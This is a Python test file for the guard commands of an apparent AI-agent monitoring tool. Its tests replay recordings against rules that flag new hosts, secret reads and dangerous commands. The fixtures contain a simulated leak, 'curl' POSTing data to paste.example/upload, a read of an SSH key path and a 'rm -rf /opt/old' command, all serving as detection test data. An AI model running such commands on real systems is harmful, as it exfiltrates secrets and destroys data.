"""guard list, test and explain."""

from __future__ import annotations

import os
import signal
import subprocess
import time
from collections.abc import Sequence
from contextlib import closing
from pathlib import Path

import msgspec
import pytest
from msgspec.structs import replace
from typer.testing import CliRunner

from agentsight_rx import sinks
from agentsight_rx.cli import app
from agentsight_rx.cli.guard.rules_list import Suggested, entry_of, suggested
from agentsight_rx.errors import CaptureError, StoreError, UsageError
from agentsight_rx.events import BlindSpot, Event, Origin
from agentsight_rx.events.loss import Ledger, Reason
from agentsight_rx.policy.rules.guard.file import built_in_rules, read_rules
from agentsight_rx.policy.rules.guard.values import Allow, Rules
from agentsight_rx.store.rows.kind import put
from agentsight_rx.store.state import LmdbStore
from agentsight_rx.view import AlertRow, Fold, Output
from agentsight_rx.view.queries.decided import allowed_by
from tests.cli.guarding import ran, stay_in
from tests.guarded import KEY, Story, leaking, stored


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return stored(tmp_path_factory.mktemp("store") / "run.lmdb", leaking().events, built_in_rules())


@pytest.fixture(autouse=True)
def at_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A home without rules, recordings or a workspace."""
    stay_in(tmp_path, monkeypatch)


# -- list --------------------------------------------------------------------------------------------------------------------


def test_the_rules_that_hold_here(tmp_path: Path) -> None:
    own = tmp_path / ".config" / "agentsight-rx" / "guard.toml"
    own.parent.mkdir(parents=True)
    own.write_text('[rule.loop]\ndo = "stop"\n[rule.mine]\nwhen = "event=file"\n[[deliver]]\ncommand = ["a"]')
    place = tmp_path / ".agentsight" / "guard.toml"
    place.parent.mkdir()
    place.write_text('[rule.note]\nwhen = "event=net"\ndo = "note"')
    head, _, *rows = ran("guard", "list")
    assert head.startswith("13 rules, sha256 ")
    assert head.endswith(", 1 delivery")
    found = {row.split()[0]: row.split()[1] for row in rows}
    assert ("stop", "warn", "note") == (found["loop"], found["mine"], found["note"])
    values = [msgspec.json.decode(line) for line in ran("guard", "list", "--json")]
    assert [True, False] == [value["built_in"] for value in values if value["name"] in ("loop", "mine")]


def test_all_of_each_rule() -> None:
    lines = ran("guard", "list", "--all")
    assert "[rule.new-host] warn: what leaves for a new host cannot be taken back" in lines
    assert any(line.startswith("  when   net.new = true & ") for line in lines)
    assert any(line.startswith("  means  A command of an agent") for line in lines)
    assert '  allow  { path = "~/.ssh/*", program = "ssh" }' in lines


# -- test --------------------------------------------------------------------------------------------------------------------


def test_rules_on_a_recording(store: Path) -> None:
    head, _, *rows = ran("guard", "test", str(store))
    assert head == "1 recording, 1 session: 2 alerts would have reached you"
    assert ["new-host", "secret-left", "unsandboxed"] == [row.split()[0] for row in rows]
    assert rows[0].split() == ["new-host", "warn", "1", "1", "paste.example,", "1"]
    values = [msgspec.json.decode(line) for line in ran("guard", "test", str(store), "--json")]
    assert [["paste.example", 1]] == values[0]["targets"]


def test_all_rules_and_targets(store: Path) -> None:
    lines = ran("guard", "test", str(store), "--all", "--suggest")
    assert "  new-host  1  paste.example" in lines
    assert any(line.split()[:2] == ["loop", "warn"] for line in lines)
    assert any("none to suggest" in line for line in lines)


def test_an_entry_that_would_remove_many(tmp_path: Path) -> None:
    paths: list[str] = []
    for number in range(5):
        story = Story(before=number)
        story.sends(story.shell("curl paste.example"), "paste.example")
        paths.append(str(stored(tmp_path / f"{number}.lmdb", shifted(story, number))))
    lines = ran("guard", "test", "--suggest", *paths)
    assert lines[0] == "5 recordings, 5 sessions: 5 alerts would have reached you; with 1 entry 0 alerts"
    assert lines[-2:] == [" [rule.new-host]", ' allow.append = [{ host = "paste.example" }]']
    (tmp_path / "mine.toml").write_text("\n".join(line.strip() for line in lines[-2:]))
    assert "5 sessions: 0 alerts would" in ran("guard", "test", *paths, "--guard-rules", str(tmp_path / "mine.toml"))[0]


def shifted(story: Story, days: int) -> list[Event]:
    """So many days later."""
    wall = days * 86_400 * 10**9
    return [replace(event, origin=replace(event.origin, wall_ns=event.origin.wall_ns + wall)) for event in story.events]


def test_days_give_alerts_a_week(tmp_path: Path) -> None:
    paths: list[str] = []
    for days in (0, 13):
        story = Story()
        story.does(story.agent, "open", KEY)
        paths.append(str(stored(tmp_path / f"{days}.lmdb", shifted(story, days))))
    assert ran("guard", "test", *paths)[0] == "2 recordings, 2 sessions: 1 alert a week would have reached you"


def test_all_recordings_without_a_name(tmp_path: Path) -> None:
    folder = tmp_path / ".local" / "share" / "agentsight-rx"
    folder.mkdir(parents=True)
    stored(folder / "agentsight-1.lmdb", leaking().events)
    (folder / "agentsight-2.lmdb").write_bytes(b"x" * 9000)
    assert ran("guard", "test")[0].startswith("1 recording, 1 session")
    with pytest.raises(StoreError):
        ran("guard", "test", str(folder / "agentsight-2.lmdb"))


ROW = AlertRow("alert-1", 1, "new-host", "warn", "curl spoke to a", "a", number=1, host="a", session_id="s")


def test_few_alerts_or_few_sessions_suggest_nothing() -> None:
    rows = [replace(ROW, session_id=f"s{number}") for number in range(5)]
    assert [Suggested("new-host", Allow(host="a"), 5)] == suggested(rows)
    assert [] == suggested(rows[:4])
    assert [] == suggested([replace(row, session_id="s") for row in rows])
    assert [] == suggested([replace(row, rule="reads-secret", target="/a", host=None) for row in rows])
    folders = [replace(row, rule="writes-outside", target="/root/.x/", host=None) for row in rows]
    assert 'allow.append = [{ path = "~/.x/*" }]' == suggested(folders)[0].text


def test_what_left_has_no_entry() -> None:
    assert 'allow.append = [{ host = "a" }]' == entry_of(ROW)
    assert 'allow.append = [{ path = "/srv/x" }]' == entry_of(replace(ROW, host=None, target="/srv/x"))
    assert "" == entry_of(replace(ROW, rule="secret-left")) == entry_of(replace(ROW, host=None))


# -- explain -----------------------------------------------------------------------------------------------------------------


def test_one_alert_whole(store: Path) -> None:
    lines = ran("guard", "explain", "a3", "--db", str(store))
    assert lines[0].endswith(
        "curl, run by claude, sent 1.8 kB to paste.example, a host that no session in ~/shop has spoken to"
    )
    assert lines[1].startswith("  a3 · new-host, warn · ")
    assert "  links     3 of 3 proven (prompt to tool, tool to process, process to target)" in lines
    assert any(line.endswith("curl 1005  POST paste.example/upload") for line in lines)
    assert lines[-2:] == ["  to allow  [rule.new-host]", '  allow.append = [{ host = "paste.example" }]']
    assert "to allow" not in "".join(ran("guard", "explain", "a2", "--db", str(store)))
    assert "new-host" == msgspec.json.decode(ran("guard", "explain", "a3", "--db", str(store), "--json")[0])["rule"]


def test_evidence_that_retention_removed_is_named(tmp_path: Path) -> None:
    path = stored(tmp_path / "run.lmdb", leaking().events, read_rules('[rule.w]\nwhen = "file.path ~= *"', "g"))
    assert any(line.startswith("w") or "open" in line for line in ran("guard", "explain", "a1", "--db", str(path)))


# -- continue, end -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("act", ["continue", "end"])
def test_a_process_that_is_gone_is_named(act: str) -> None:
    with pytest.raises(CaptureError, match="there is no process 4194305"):
        ran("guard", act, "4194305")


def test_a_process_goes_on_or_is_asked_to_end(capsys: pytest.CaptureFixture[str]) -> None:
    with subprocess.Popen(["sleep", "600"]) as running:
        ran("guard", "continue", str(running.pid))
        ran("guard", "end", str(running.pid))
        assert -signal.SIGTERM == running.wait(60)


# -- what the rules could not have seen -----------------------------------------------------------------------------------


def captured(path: Path, *sources: str, losses: Sequence[tuple[str, Reason]] = (), events: Sequence[Event] = ()) -> Path:
    """A recording in which these sources were on, and lost something there."""
    ledger, fold, items = Ledger(), Fold(), list[Output]()
    ledger.begin()
    for source in sources:
        ledger.meter(source).seen += 1
        ledger.meter(source).passed += 1
    for stage, reason in losses:
        ledger.meter(stage).lose(reason, 3)
    for event in [*leaking().events, *events]:
        items += [event, *fold.add(event)]
    writer = sinks.store(path).open(ledger)
    writer.write([*items, *fold.finish()])
    writer.flush()
    writer.close()
    return path


ALL_SOURCES = ("tls", "process", "files", "net")


def gaps(*paths: Path) -> dict[tuple[str, str], list[str]]:
    found = [msgspec.json.decode(line) for line in ran("guard", "test", "--gaps", "--json", *map(str, paths))]
    return {(each["recording"], each["what"]): each["rules"] for each in found}


def test_a_source_that_was_off_shows_nothing_to_the_rules_about_it(tmp_path: Path) -> None:
    whole = captured(tmp_path / "whole.lmdb", *ALL_SOURCES)
    assert ["no gaps: all that the rules are about was recorded, as far as the kernel shows it"] == ran(
        "guard", "test", "--gaps", str(whole)
    )
    some = captured(tmp_path / "some.lmdb", "tls", "process")
    assert {
        ("some.lmdb", "it was recorded without files"): ["reads-secret", "searched-secret", "writes-outside", "secret-left"],
        ("some.lmdb", "it was recorded without connections"): ["new-host", "unread"],
    } == gaps(whole, some)
    blind = captured(tmp_path / "blind.lmdb", "process", "files", "net")
    talk = ["new-host", "secret-in-prompt", "secret-left", "loop", "budget", "unread", "unsandboxed"]
    assert {("blind.lmdb", "it was recorded without TLS"): talk} == gaps(blind)
    assert ran("guard", "test", str(whole), str(blind))[-1].startswith("1 recording has gaps, so 7 rules may have missed")


def test_losses_and_programs_that_could_not_be_read_are_gaps_of_the_rules_that_need_them(tmp_path: Path) -> None:
    spot = BlindSpot(Origin(1 << 50, 77, comm="codex", wall_ns=1 << 60), 5, 1, 900, ("10.0.0.1:443",))
    path = captured(
        tmp_path / "run.lmdb",
        *ALL_SOURCES,
        losses=[("files", Reason.KERNEL_LOST), ("to store", Reason.QUEUE_FULL), ("parse_http", Reason.MALFORMED)],
        events=[spot],
    )
    found = {what: rules for (_, what), rules in gaps(path).items()}
    by_file = next(rules for what, rules in found.items() if "of files lost" in what)
    assert ["reads-secret", "searched-secret", "writes-outside", "secret-left"] == by_file
    assert 11 in map(len, found.values())  # what a full queue dropped may be anything
    assert any(what.startswith("could not be read: codex ") and "secret-in-prompt" in each for what, each in found.items())
    lines = ran("guard", "test", "--gaps", str(path))
    assert "run.lmdb" == lines[0]
    assert any(line.endswith(": every rule") for line in lines)


# -- a session that was stopped, and entries that allow ---------------------------------------------------------------------


def stopped_by(path: Path, session: str, pid: int | None, *more: AlertRow) -> Path:
    """A recording in which a rule has stopped the agent of a session, now."""
    now_ms = time.time_ns() // 1_000_000
    row = replace(ROW, id=f"alert-{session}", do="stop", session_id=session, agent="claude", agent_pid=pid, timestamp_ms=now_ms)
    with closing(LmdbStore.open(path)) as store:
        store.commit([put(each) for each in (row, *more)])
    return path


def test_a_session_goes_on_or_is_asked_to_end(tmp_path: Path) -> None:
    folder = tmp_path / ".local" / "share" / "agentsight-rx"
    folder.mkdir(parents=True)
    with subprocess.Popen(["sleep", "600"]) as running:
        stopped_by(folder / "agentsight-1.lmdb", "5c1f0c52-parcel", running.pid)
        (folder / "agentsight-2.lmdb").write_bytes(b"x" * 9000)  # no recording, and newer
        for act, session, said in (
            ("continue", "5c1f0c52", "1 process goes on"),
            ("end", "5c1f0c52-parcel", "1 process was asked to end"),
        ):
            done = CliRunner().invoke(app, ["guard", act, session], standalone_mode=False, catch_exceptions=False)
            assert said in done.stderr
        assert -signal.SIGTERM == running.wait(60)


def test_a_session_whose_agent_has_ended_is_named(tmp_path: Path) -> None:
    """Also where its pid is that of a later process."""
    with subprocess.Popen(["true"]) as gone:
        gone.wait(60)
    path = stopped_by(tmp_path / "a.lmdb", "abc", gone.pid)
    with pytest.raises(CaptureError, match=f"claude {gone.pid} of the session ab has ended"):
        ran("guard", "continue", "ab", "--db", str(path))
    early = stopped_by(tmp_path / "b.lmdb", "abc", None, replace(ROW, do="stop", session_id="abc", agent_pid=os.getpid()))
    with pytest.raises(CaptureError, match="has ended"):
        ran("guard", "end", "abc", "--db", str(early))


def test_a_session_that_no_rule_has_stopped_is_named(store: Path, tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="no rule has stopped a session 5c1f in "):
        ran("guard", "continue", "5c1f", "--db", str(store))
    two = stopped_by(tmp_path / "two.lmdb", "aa-1", 5, replace(ROW, id="o", do="stop", session_id="aa-2", timestamp_ms=9))
    with pytest.raises(UsageError, match="2 sessions begin with aa: aa-1, aa-2; give more of one"):
        ran("guard", "end", "aa", "--db", str(two))
    with pytest.raises(UsageError, match="1 is the pid of no agent"):
        ran("guard", "end", "1")
    with pytest.raises(StoreError):
        ran("guard", "end", "aa", "--db", str(tmp_path / "none.lmdb"))


def test_an_offered_entry_removes_its_alert() -> None:
    """Of each rule that has one."""
    story = leaking()
    story.does(story.shell("touch /srv/x/y"), "open", "/srv/x/y", flags=0o101)
    story.shell("rm -rf /opt/old")
    found = {row.rule: row for row in alerts_by(built_in_rules(), story)}
    assert {"new-host", "writes-outside", "dangerous-command", "reads-secret"} <= found.keys()
    for rule in ("new-host", "writes-outside", "dangerous-command", "reads-secret"):
        row = found[rule]
        rules = read_rules(f"[rule.{rule}]\n{entry_of(row)}", "own")
        assert row.id not in {each.id for each in alerts_by(rules, story)}, entry_of(row)
        assert allowed_by(row, rules)
        assert "" == allowed_by(row, built_in_rules())


def alerts_by(rules: Rules, story: Story) -> list[AlertRow]:
    fold, rows = Fold(rules), dict[str, AlertRow]()
    for event in story.events:
        rows |= {row.id: row for row in fold.add(event) if isinstance(row, AlertRow)}
    return [*rows.values()]
